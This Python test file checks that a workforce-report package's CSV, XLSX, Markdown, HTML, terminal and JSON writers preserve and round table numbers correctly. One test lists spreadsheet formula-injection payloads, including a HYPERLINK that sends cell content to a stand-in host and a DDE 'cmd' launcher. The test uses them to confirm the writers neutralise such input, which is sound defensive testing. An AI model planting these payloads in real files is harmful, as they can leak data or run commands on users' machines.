"""The one report table through every writer: CSV and XLSX give back the unrounded
numbers, Markdown, HTML and the terminal show them rounded half away from zero, the
terminal never cuts a number however narrow it is, and JSON keeps the API's shape."""

from __future__ import annotations

import csv
import io
import math
import re
import tempfile
import zipfile
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rich.console import Console

from sterkte.report.csv_out import to_csv
from sterkte.report.html import environment
from sterkte.report.markdown import to_markdown
from sterkte.report.table import Column, Format, Table
from sterkte.report.terminal import print_table
from sterkte.report.xlsx import write_xlsx
from sterkte.sources.textcells import from_text_cell, text_cell

numbers = st.floats(min_value=-1e7, max_value=1e7, allow_nan=False, allow_infinity=False)
cells = st.one_of(numbers, numbers, numbers, st.none(), st.just(math.nan), st.just("×"))


def parse_csv(text: str, lang: str) -> list[list[str]]:
    """Read without any sterkte code: Dutch ';' with a decimal comma, English ',' and a
    point; neither has a thousands separator."""
    return list(csv.reader(io.StringIO(text), delimiter=";" if lang == "nl" else ","))


def number(cell: str, lang: str) -> float:
    assert re.fullmatch(r"-?\d+([,]\d+)?" if lang == "nl" else r"-?\d+([.]\d+)?", cell), cell
    return float(cell.replace(",", "."))


@st.composite
def tables(draw: st.DrawFn) -> Table:
    lang = draw(st.sampled_from(["nl", "en"]))
    n = draw(st.integers(min_value=1, max_value=6))
    cols = [Column("name", "Eenheid", "text")]
    for j in range(n):
        kind = draw(st.sampled_from(["number", "percent"]))
        cols.append(Column(f"c{j}", f"Kolom {j}", kind, draw(st.integers(0, 2)),
                           draw(st.booleans())))
    table = Table("t", "Titel", cols, lang=lang)
    for i in range(draw(st.integers(min_value=1, max_value=8))):
        table.add(f"k{i}", [f"rij {i}", *(draw(cells) for _ in range(n))],
                  total=draw(st.booleans()))
    return table


def _same(shown: str | float | None, value: object, lang: str) -> bool:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return shown == ""
    if isinstance(value, str):
        return shown == value
    assert isinstance(shown, str)
    return number(shown, lang) == value  # exactly: the CSV is unrounded


@settings(max_examples=80, deadline=None)
@given(tables())
def test_csv_gives_back_every_unrounded_number_in_dutch_and_english(table: Table) -> None:
    rows = parse_csv(to_csv(table), table.lang)
    assert rows[0] == [c.header for c in table.columns]
    assert len(rows) == len(table.rows) + 1
    for got, want in zip(rows[1:], table.rows, strict=True):
        assert all(_same(g, w, table.lang) for g, w in zip(got, want, strict=True)), (got, want)


def test_csv_never_writes_three_decimals_a_reader_could_take_for_thousands() -> None:
    t = Table("t", "", [Column("a", "A", "text"), Column("b", "B")], lang="nl")
    t.add("x", ["x", 12.345])
    t.add("y", ["y", 1e-7])
    t.add("z", ["z", 46174.0])
    assert parse_csv(to_csv(t), "nl")[1:] == [["x", "12,3450"], ["y", "0,0000001"],
                                              ["z", "46174"]]


def test_a_table_in_parts_carries_its_part_and_row_key_in_the_csv() -> None:
    t = Table("p", "", [Column("row", "Rij", "text"), Column("y", "2022")], lang="en",
              key_header="Flow", section_header="Table")
    t.section("Table 3", "Table 3: Prognosis of operational strength")
    t.add("opening", ["OS at start of year", 46188.25])
    t.section("Table 4")
    t.add("opening", ["Trainees at start of year", 4782.0])
    assert parse_csv(to_csv(t), "en") == [
        ["Table", "Rij", "Flow", "2022"],
        ["Table 3", "OS at start of year", "opening", "46188.25"],
        ["Table 4", "Trainees at start of year", "opening", "4782"]]


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"team")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "=1+1"]


def test_text_from_imported_files_never_runs_as_a_formula_in_a_spreadsheet() -> None:
    # a team code or person id from an imported file could be a formula; the CSV and XLSX
    # writers put text out as text (a leading apostrophe in CSV, a text cell in XLSX),
    # numbers and dashes that are no formula as they are
    t = Table("t", "", [Column("team", "Team", "text"), Column("n", "N")], lang="nl",
              key_header="Code")
    for i, text in enumerate(FORMULAS):
        t.add(text if i == 0 else f"k{i}", [text, -1.5])
    t.add("plain", ["-", -1701.0])
    t.add("sign", ["+31 6", 2.0])
    rows = parse_csv(to_csv(t), "nl")[1:]
    assert [r[0] for r in rows[:len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert rows[0][1] == "'" + FORMULAS[0]  # the row key too
    assert rows[len(FORMULAS)] == ["-", "plain", "-1701"]
    assert rows[len(FORMULAS) + 1][0] == "'+31 6"
    assert all(r[-1].startswith("-1") for r in rows[:len(FORMULAS)])
    assert [from_text_cell(text_cell(f)) for f in [*FORMULAS, "-", "-1,5", "x"]] == [
        *FORMULAS, "-", "-1,5", "x"]
    with tempfile.TemporaryDirectory() as d:
        path = write_xlsx([t], Path(d) / "t.xlsx")
        ws = load_workbook(path).active
        assert ws is not None
        got = [ws.cell(4 + i, 1) for i in range(len(FORMULAS))]
        assert [c.value for c in got] == FORMULAS  # the text itself, not a formula
        assert {c.data_type for c in got} == {"s"}
        # and no formula anywhere in the file
        with zipfile.ZipFile(path) as z:
            assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))


@settings(max_examples=25, deadline=None)
@given(tables())
def test_xlsx_keeps_numbers_as_numbers_with_their_display_format(table: Table) -> None:
    with tempfile.TemporaryDirectory() as d:
        ws = load_workbook(write_xlsx([table], Path(d) / "t.xlsx")).active
        assert ws is not None
        assert ws["A1"].value == table.title
        assert [c.value for c in ws[3]] == [c.header for c in table.columns]
        for i, row in enumerate(table.rows):
            for j, value in enumerate(row):
                cell = ws.cell(4 + i, 1 + j)
                if value is None or (isinstance(value, float) and math.isnan(value)):
                    assert cell.value is None
                elif isinstance(value, str):
                    assert cell.value == value
                else:
                    # openpyxl keeps 16 significant digits
                    assert abs(cell.value - value) <= 1e-15 * abs(value)
                    col = table.columns[j]
                    zeros = "." + "0" * col.decimals if col.decimals else ""
                    assert f"#,##0{zeros}" in cell.number_format
                    assert ('"%"' in cell.number_format) == (col.kind == "percent")
                    assert cell.number_format.startswith("+") == col.signed


def _example(lang: str) -> Table:
    t = Table("voorbeeld", "Voorbeeld", [
        Column("unit", "Eenheid", "text"), Column("fte", "Fte"),
        Column("diff", "Verschil", signed=True, decimals=1),
        Column("pct", "Aandeel", "percent", 1)], lang=lang, explanation="Uitleg.",
        notes=["Noot."])
    t.add("AM", ["Amsterdam", 46173.5, 0.05, 6.05])
    t.add("NP", ["Totaal", -0.4, -2540.75, None], total=True)
    t.add("MIX", ["Norm in fte", 1.4, 2.0, 227.0], fmt=Format("number", 0))
    return t


# Rounded half away from zero, by hand: 46173,5 → 46.174; 0,05 → +0,1; 6,05 → 6,1 %;
# -0,4 → 0 (never '-0'); -2540,75 → -2.540,8; a row in its own format: 227 whole.
SHOWN = {"nl": [["Amsterdam", "46.174", "+0,1", "6,1 %"], ["Totaal", "0", "-2.540,8", "–"],
                ["Norm in fte", "1", "+2", "227"]],
         "en": [["Amsterdam", "46,174", "+0.1", "6.1 %"], ["Totaal", "0", "-2,540.8", "–"],
                ["Norm in fte", "1", "+2", "227"]]}


def test_markdown_shows_the_numbers_rounded_in_the_tables_language() -> None:
    for lang, shown in SHOWN.items():
        lines = to_markdown(_example(lang)).splitlines()
        assert lines[0] == "**Voorbeeld**" and lines[2] == "*Uitleg.*"
        assert lines[6] == "| " + " | ".join(shown[0]) + " |"
        assert lines[7] == "| " + " | ".join(f"**{c}**" for c in shown[1]) + " |"
        assert lines[8] == "| " + " | ".join(shown[2]) + " |"
        assert lines[-1] == "Noot."


def test_html_macro_shows_the_same_text_with_keys_for_machines() -> None:
    env = environment()
    page = env.from_string('{% from "grid_macros.html" import grid_table %}'
                           "{{ grid_table(t) }}").render(t=_example("nl"))
    row = re.search(r'<tr data-key="AM">(.*?)</tr>', page)
    assert row is not None
    assert re.findall(r"<td[^>]*>([^<]*)</td>", row.group(1)) == SHOWN["nl"][0]
    assert '<tr data-key="NP" class="total">' in page


def test_json_has_the_apis_shape_with_unrounded_values_and_shown_text() -> None:
    data = _example("en").to_json()
    assert set(data) == {"name", "title", "lang", "explanation", "notes", "columns", "rows",
                         "synthetic", "synthetic_notice"}
    assert data["synthetic"] is False and data["synthetic_notice"] == ""
    assert data["columns"][1] == {"key": "fte", "header": "Fte", "kind": "number",
                                  "decimals": 0}
    am = data["rows"][0]
    assert am["key"] == "AM" and am["total"] is False
    assert am["values"] == {"unit": "Amsterdam", "fte": 46173.5, "diff": 0.05, "pct": 6.05}
    assert am["text"] == dict(zip(["unit", "fte", "diff", "pct"], SHOWN["en"][0], strict=True))


def _terminal(table: Table, width: int) -> str:
    buf = io.StringIO()
    print_table(table, Console(file=buf, width=width, color_system=None))
    return buf.getvalue()


@st.composite
def wide_tables(draw: st.DrawFn) -> tuple[Table, int]:
    lang = draw(st.sampled_from(["nl", "en"]))
    n = draw(st.integers(min_value=1, max_value=16))
    cols = [Column("row", "Rij", "text")]
    cols += [Column(f"c{j}", draw(st.sampled_from(["2024", "Zij-instroom", "Afgestudeerd + "
                                                   "instroom in operationele functie"])),
                    draw(st.sampled_from(["number", "percent"])), draw(st.integers(0, 2)),
                    draw(st.booleans())) for j in range(n)]
    table = Table("t", "Een titel die lang kan zijn", cols, lang=lang)
    for i in range(draw(st.integers(min_value=1, max_value=5))):
        table.add(f"r{i}", [f"r{i}", *(draw(st.one_of(numbers, st.none()))
                                       for _ in range(n))], total=draw(st.booleans()))
    return table, draw(st.integers(min_value=40, max_value=200))


@settings(max_examples=60, deadline=None)
@given(wide_tables())
def test_the_terminal_prints_every_number_whole_at_any_width(case: tuple[Table, int]) -> None:
    table, width = case
    out = _terminal(table, width)
    lines = out.splitlines()
    assert all(len(line) <= width for line in lines), width
    # A row's cells, block after block, are exactly its shown texts, in column order.
    for i, key in enumerate(table.keys):
        shown = [line.split(None, 1)[1] if " " in line.strip() else ""
                 for line in lines if line.startswith(f"  {key} ")]
        assert " ".join(" ".join(shown).split()) == " ".join(
            table.text(i, j) for j in range(1, len(table.columns)))


def test_a_table_on_synthetic_data_says_so_in_every_writer_and_stays_data() -> None:
    for lang, phrase, column, flag in (("nl", "Synthetische gegevens", "Synthetische gegevens",
                                        "synthetisch"),
                                       ("en", "Synthetic data", "Synthetic data", "synthetic")):
        real = _example(lang)
        table = _example(lang).mark_synthetic(["hr"])
        assert table.synthetic_notice.startswith(phrase + ":")
        assert phrase not in _terminal(real, 200) and phrase in _terminal(table, 200)
        assert phrase not in to_markdown(real) and phrase in to_markdown(table)
        # CSV: the same rows and numbers, and a last column saying so in every row
        plain, marked = parse_csv(to_csv(real), lang), parse_csv(to_csv(table), lang)
        assert [r[:-1] for r in marked] == plain
        assert marked[0][-1] == column and {r[-1] for r in marked[1:]} == {flag}
        with tempfile.TemporaryDirectory() as d:
            ws = load_workbook(write_xlsx([table], Path(d) / "t.xlsx")).active
            assert ws is not None
            assert str(ws["A2"].value).startswith(phrase)
            assert [c.value for c in ws[3]] == [c.header for c in table.columns]  # in place
            assert ws["B4"].value == 46173.5  # the numbers stay where and what they were
        env = environment()
        html = env.from_string('{% from "grid_macros.html" import grid_table %}'
                               "{{ grid_table(t) }}")
        assert phrase not in html.render(t=real)
        assert f'<p class="synthetic-notice" role="note">{phrase}' in html.render(t=table)
        data = table.to_json()
        assert data["synthetic"] is True and data["synthetic_notice"].startswith(phrase)
